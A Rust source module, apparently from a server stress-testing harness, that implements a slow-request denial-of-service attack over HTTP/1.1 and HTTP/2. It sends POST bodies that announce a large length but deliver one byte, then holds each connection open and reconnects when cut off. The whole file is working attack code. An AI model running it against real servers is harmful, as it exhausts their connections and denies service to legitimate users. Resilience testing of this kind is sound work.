//! Any number of requests that start and never end, over both versions of HTTP. A client that is cut off starts again.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::task::{Context, Poll};
use std::time::Duration;

use http::Request;
use hyper::body::{Body, Bytes, Frame, SizeHint};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::client::{Http, Trust};

/// The pause of a client before it reconnects: the attack is about held connections, and not about processor time.
const PAUSE: Duration = Duration::from_millis(250);

/// A body that announces more bytes than the one that it sends.
pub struct Endless {
    length: u64,
    is_begun: bool,
}

impl Body for Endless {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(mut self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        if std::mem::replace(&mut self.is_begun, true) {
            return Poll::Pending;
        }
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(b"{")))))
    }

    fn size_hint(&self) -> SizeHint {
        SizeHint::with_exact(self.length)
    }
}

/// The attack; it ends when this is dropped.
pub struct Stalled {
    _tasks: JoinSet<()>,
    begun: Arc<AtomicUsize>,
}

/// The target, and the request.
#[derive(Clone)]
pub struct Target {
    pub address: SocketAddr,
    pub trust: Trust,
    pub path: String,
    /// The announced length of each body.
    pub length: u64,
}

impl Stalled {
    /// Starts `http1` requests on connections of their own, and `http2` connections with 16 requests each, the allowed maximum.
    pub fn start(target: &Target, http1: usize, http2: usize) -> Self {
        let (mut tasks, begun) = (JoinSet::new(), Arc::<AtomicUsize>::default());
        for _ in 0..http1 {
            let (target, begun) = (target.clone(), Arc::clone(&begun));
            tasks.spawn(async move {
                loop {
                    let _ = one(&target, &begun).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        for _ in 0..http2 {
            let (target, begun) = (target.clone(), Arc::clone(&begun));
            tasks.spawn(async move {
                loop {
                    let _ = two(&target, &begun).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        Self { _tasks: tasks, begun }
    }

    /// How many requests were started.
    pub fn begun(&self) -> usize {
        self.begun.load(Ordering::Relaxed)
    }
}

async fn one(target: &Target, begun: &AtomicUsize) -> std::io::Result<()> {
    let Target { address, trust, path, length } = target;
    let mut stream = trust.open(*address, Http::One).await?;
    let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-length: {length}\r\n\r\n{{");
    stream.write_all(head.as_bytes()).await?;
    begun.fetch_add(1, Ordering::Relaxed);
    stream.read_to_end(&mut Vec::new()).await.map(drop)
}

async fn two(target: &Target, begun: &Arc<AtomicUsize>) -> std::io::Result<()> {
    let stream = TokioIo::new(target.trust.open(target.address, Http::Two).await?);
    let (sender, connection) = http2::handshake(TokioExecutor::new(), stream).await.map_err(std::io::Error::other)?;
    let mut streams = JoinSet::new();
    let driven = streams.spawn(async move { drop(connection.await) });
    for _ in 0..16 {
        let (mut sender, target, begun) = (sender.clone(), target.clone(), Arc::clone(begun));
        streams.spawn(async move {
            loop {
                if sender.ready().await.is_err() {
                    return;
                }
                let request = Request::post(format!("https://{}{}", target.address, target.path));
                let request = request.body(Endless { length: target.length, is_begun: false }).unwrap();
                begun.fetch_add(1, Ordering::Relaxed);
                let _ = sender.send_request(request).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    while streams.join_next().await.is_some() {
        if driven.is_finished() {
            break;
        }
    }
    Ok(())
}
